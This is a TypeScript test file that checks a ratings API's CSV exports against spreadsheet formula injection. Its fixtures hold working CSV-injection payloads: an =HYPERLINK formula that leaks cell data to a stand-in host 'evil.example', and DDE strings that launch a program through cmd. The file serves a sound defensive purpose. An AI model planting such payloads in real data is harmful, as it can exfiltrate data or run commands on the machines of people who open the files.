// CSV injection (issue 13 §5): hostile names reach Excel as text, never as formulas, through every CSV the API writes.
import t from 'tap'
import { build } from '../helper.ts'
import { seedCentre, seedUser, signIn } from '../fixtures.ts'
import { addRatings } from '../analytics/ratings.ts'
import { parseCsv } from '../csv.ts'
import { figuresCsv, keyColumns } from '../../api/routes/stats/csv.ts'

const hostile = {
  officer: '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")',
  counter: "+1+cmd|' /C calc'!A0",
  unitName: "@SUM(1+1)*cmd|' /C calc'!A0",
  unitCode: '-2/CALC.A0',
  officerTab: '\t=1+2',
  counterCr: '\r=1+2',
  level: '=1+1',
  criterion: '@SUM(A1:A9)'
}
const dangerous = /^[=+\-@\t\r]/

t.test('every CSV endpoint writes hostile names as text a spreadsheet will not run', async (t) => {
  const app = await build(t)
  const centre = await seedCentre(app.db, { counters: 2, officers: 2 })
  const [first, second] = centre.officers
  await app.db.updateTable('officers').set({ full_name: hostile.officer }).where('id', '=', first!.id).execute()
  await app.db.updateTable('officers').set({ full_name: hostile.officerTab }).where('id', '=', second!.id).execute()
  await app.db.updateTable('counters').set({ name: hostile.counter }).where('id', '=', centre.counterIds[0]!).execute()
  await app.db.updateTable('counters').set({ name: hostile.counterCr }).where('id', '=', centre.counterIds[1]!).execute()
  await app.db.updateTable('units').set({ name: hostile.unitName, code: hostile.unitCode }).where('id', '=', centre.centreId).execute()
  await app.db.updateTable('scale_levels').set({ label_vi: hostile.level, label_en: hostile.level }).where('level', '=', 1).execute()
  await app.db
    .updateTable('criteria')
    .set({ label_vi: hostile.criterion, label_en: hostile.criterion })
    .where('code', '=', 'xin_chao')
    .execute()
  const at = { unitId: centre.centreId, terminalId: centre.terminal.id }
  await addRatings(app.db, [
    {
      ...at,
      counterId: centre.counterIds[0]!,
      officerId: first!.id,
      level: 1,
      criteria: { xin_chao: true },
      at: '2026-11-02T09:00:00+07:00'
    },
    {
      ...at,
      counterId: centre.counterIds[1]!,
      officerId: second!.id,
      level: 4,
      criteria: { xin_chao: false },
      at: '2026-11-02T10:00:00+07:00'
    }
  ])
  const cookies = await signIn(app, await seedUser(app.db, 'analyst', centre.provinceId))
  const period = 'from=2026-11-01&to=2026-11-30'

  const expected: Record<string, string[]> = {
    summary: [hostile.criterion],
    officers: [hostile.officer, hostile.officerTab, hostile.criterion],
    counters: [hostile.counter, hostile.counterCr, hostile.criterion],
    units: [hostile.unitName, hostile.unitCode, hostile.criterion],
    timeseries: [hostile.criterion],
    heatmap: [hostile.criterion]
  }
  for (const [kind, names] of Object.entries(expected)) {
    for (const lang of ['vi', 'en']) {
      const unitId = kind === 'units' ? centre.communeId : centre.centreId
      const response = await app.inject({ url: `/api/v1/stats/${kind}?${period}&unitId=${unitId}&format=csv&lang=${lang}`, cookies })
      t.equal(response.statusCode, 200, `${kind} CSV (${lang})`)
      // vi: `;` between fields (decimal comma), en: `,`; a title line and an empty line above the table.
      const separator = lang === 'vi' ? ';' : ','
      const cells = parseCsv(response.rawPayload.subarray(3).toString('utf8'), separator).flat()
      t.same(
        cells.filter((cell) => dangerous.test(cell)),
        [],
        `${kind} (${lang}): no cell starts with = + - @ tab or CR`
      )
      for (const name of names) {
        t.ok(
          cells.some((cell) => cell.startsWith(`'${name}`)),
          `${kind} (${lang}): ${JSON.stringify(name)} is there, behind a single quote`
        )
      }
      // A level label sits behind "Mức 1 – ", so that header cell never starts a formula and is left as written.
      t.ok(
        cells.includes(lang === 'vi' ? `Mức 1 – ${hostile.level}` : `Level 1 – ${hostile.level}`),
        `${kind} (${lang}): the level header is as named`
      )
      const numbers = parseCsv(response.rawPayload.subarray(3).toString('utf8'), separator)[3]!
        .filter((cell) => /^\d+([.,]\d+)?$/.test(cell))
      t.ok(numbers.length > 3, `${kind} (${lang}): the figures are still plain numbers`)
    }
  }

  const json = await app.inject({ url: `/api/v1/stats/officers?${period}&unitId=${centre.centreId}`, cookies })
  t.ok(
    json.json().rows.some((row: { fullName: string }) => row.fullName === hostile.officer),
    'JSON keeps the name as written'
  )
})

t.test('a negative number stays a number; text that looks like one is quoted', async (t) => {
  const figures = {
    total: 1,
    byLevel: { 1: 1 },
    satisfied: 0,
    neutral: 0,
    unsatisfied: 1,
    satisfactionRate: 0,
    rate766: 0,
    rate766Basis: 'rating' as const,
    dossiers: 0,
    scoreIndex: -5,
    criteria: []
  }
  const csv = figuresCsv(
    [{ ...figures, unitId: 'u', code: '-5', name: '-5' }],
    keyColumns.units,
    { levels: new Map(), criteria: new Map() },
    'en'
  )
  const [header, row] = parseCsv(csv.subarray(3).toString('utf8'))
  t.equal(row![header!.indexOf('Score index (0–100)')], '-5.0', 'a negative number is written as a number')
  t.equal(row![header!.indexOf('Unit code')], "'-5", 'a code that is text is neutralised')
})
